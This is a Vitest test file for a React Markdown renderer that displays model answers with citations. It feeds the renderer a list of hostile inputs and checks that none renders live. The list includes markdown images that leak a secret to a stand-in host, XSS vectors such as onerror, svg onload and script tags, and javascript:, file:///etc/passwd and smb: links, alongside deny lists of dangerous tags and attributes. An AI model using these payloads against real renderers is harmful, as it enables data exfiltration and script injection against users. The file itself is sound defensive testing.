import { createElement } from 'react';
import { renderToStaticMarkup } from 'react-dom/server';
import { beforeAll, describe, expect, it } from 'vitest';
import { createInstance } from 'i18next';
import { initReactI18next } from 'react-i18next';
import type { Source } from '../../../../shared/contract/chat.ts';
import { en } from '../../../i18n/resources.ts';
import { CitationContext } from './citation-context.ts';
import { Markdown } from './markdown.tsx';

beforeAll(async () => {
  await createInstance()
    .use(initReactI18next)
    .init({ lng: 'en', resources: { en }, interpolation: { escapeValue: false } });
});

const source: Source = {
  ordinal: 1,
  passageId: 'p1',
  documentId: 'd1',
  documentName: 'lease.pdf',
  page: 7,
  headingPath: [],
  startOffset: 0,
  endOffset: 4,
  text: 'text',
  keywordRank: 1,
  vectorRank: null,
  score: 1,
};

function draw(text: string, sources: readonly Source[] = []): string {
  const citations = { sources, onOpen: () => undefined };
  return renderToStaticMarkup(createElement(CitationContext, { value: citations }, createElement(Markdown, { text })));
}

/** Ways out of the page, or into it, that a model (or a document it quotes) could try. */
const payloads = [
  '![x](https://evil.example/?d=SECRET)',
  '![x][ref]\n\n[ref]: https://evil.example/?d=SECRET',
  '[![x](https://evil.example/p.png)](https://evil.example)',
  '![" onerror="alert(1)](x)',
  '![x](data:image/svg+xml;base64,PHN2Zy8+)',
  '<img src="https://evil.example/p.png">',
  '<img src=x onerror=alert(1)>',
  '<svg onload=alert(1)><image href="https://evil.example"/></svg>',
  '<math><mtext><script>alert(1)</script></mtext></math>',
  '<iframe src="https://evil.example"></iframe>',
  '<style>body{background:url(https://evil.example)}</style>',
  '<div style="background:url(https://evil.example)">x</div>',
  '<video poster="https://evil.example/p.png"></video>',
  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<base href="https://evil.example">',
  '<form action="https://evil.example"><button>go</button></form>',
  '[a](javascript:alert(1)) [b](data:text/html,x) [c](file:///etc/passwd) [d](ms-msdt:x) [e](smb://h/s) [f](\\\\host\\share)',
  '[g](//evil.example) [h](/settings) [i](#/settings) [j](vbscript:x)',
  '<javascript:alert(1)> <https://evil.example/auto>',
  'https://evil.example/bare and www.evil.example',
  '```mermaid\nclick A href "javascript:alert(1)"\n```',
  '```html\n<script>alert(1)</script>\n```',
  '[^1]\n\n[^1]: note ![x](https://evil.example/n.png)',
  '| a |\n| - |\n| ![x](https://evil.example/t.png) |',
];

/** Elements and attributes that load, navigate, submit or run something. */
const dangerousTags = new Set(
  'a img image svg math iframe frame script style link meta base form video audio source object embed'.split(' '),
);
const dangerousAttributes = /^(?:href|xlink:href|src|srcset|poster|action|formaction|ping|background|on.+)$/;

/** The dangerous parts of what is drawn. Our own icons, which React draws, do not count. */
function dangersIn(html: string): string[] {
  const withoutIcons = html.replaceAll(/<svg xmlns="http:\/\/www\.w3\.org\/2000\/svg"[\s\S]*?<\/svg>/g, '');
  return [...withoutIcons.matchAll(/<([a-z][^\s>/]*)((?:\s+[^\s=>]+(?:="[^"]*")?)*)/gi)].flatMap(([, tag = '', attributes = '']) => [
    ...(dangerousTags.has(tag.toLowerCase()) ? [tag] : []),
    ...[...attributes.matchAll(/([^\s=]+)="[^"]*"/g)]
      .map(([, name = '']) => name)
      .filter((name) => dangerousAttributes.test(name.toLowerCase())),
  ]);
}

describe('Markdown of a model', () => {
  it.each(payloads)('has no way out: %s', (payload) => {
    expect(dangersIn(draw(payload))).toEqual([]);
  });

  it.each(payloads)('has no way out while it streams: %s', (payload) => {
    for (let end = 1; end < payload.length; end += 1) expect(dangersIn(draw(payload.slice(0, end)))).toEqual([]);
  });

  it('is watched by a test that would see it', () => {
    expect(dangersIn('<p title="x"><a href="y">z</a><b onclick="w"></b></p>')).toEqual(['a', 'href', 'onclick']);
  });

  it('names the host of an image it does not load', () => {
    expect(draw('![x](https://evil.example/?d=SECRET)')).toContain('Image blocked: evil.example');
  });

  it('shows HTML as the text it is', () => {
    expect(draw('a <b onclick="x()">bold</b> word')).toContain('&lt;b onclick=&quot;x()&quot;&gt;');
  });

  it('breaks lines in a table where a model asks for it, which is all the HTML there is', () => {
    expect(draw('| a |\n| - |\n| one<br>two<b>x</b> |')).toContain('<td>one<br/>two&lt;b&gt;x&lt;/b&gt;</td>');
  });

  it('finds where links and footnotes lead, wherever in the answer that is said', () => {
    const html = draw('See [the guide][g] and the note[^n].\n\nMore.\n\n[g]: https://example.org/guide\n[^n]: A **note**.\n');
    expect(html).toContain('class="outside-link"');
    expect(html).toContain('aria-label="Footnote 1"');
    expect(html).toMatch(/<section class="footnotes"[^>]*>.*<strong>note<\/strong>/u);
    expect(html).not.toContain('[^n]');
  });

  it('keeps prices apart from formulas', () => {
    expect(draw('It costs $5 or $10; \\(a^2\\) does not.')).toMatch(/\$5 or \$10; <code class="formula-source">a\^2<\/code>/u);
  });

  it('draws what would take for ever to read as the text it is', () => {
    for (const text of ['>'.repeat(10_000), '- '.repeat(4_000), '['.repeat(8_000), '*a_'.repeat(2_500), '!['.repeat(4_000)]) {
      expect(draw(text)).toContain('whitespace-pre-wrap');
    }
  });

  it('shows the end of an answer of a million characters in one line, and offers what comes before', () => {
    const html = draw(`${'x'.repeat(1_000_000)} The end.`);
    expect(html).toContain('The end.');
    expect(html).toMatch(/Show the \d+ parts before/u);
    expect(html.length).toBeLessThan(300_000);
  });

  it('makes given passages buttons and says which were not given', () => {
    const html = draw('Once a year [1], or not [7].', [source]);
    expect(html).toContain('Source 1: lease.pdf, p. 7');
    expect(html).toContain('Source 7 was not given');
  });

  it('leaves [1] alone in code, and where nothing was given', () => {
    expect(draw('`a[1]`', [source])).not.toContain('Source 1');
    expect(draw('see [1]')).toContain('see [1]');
  });
});
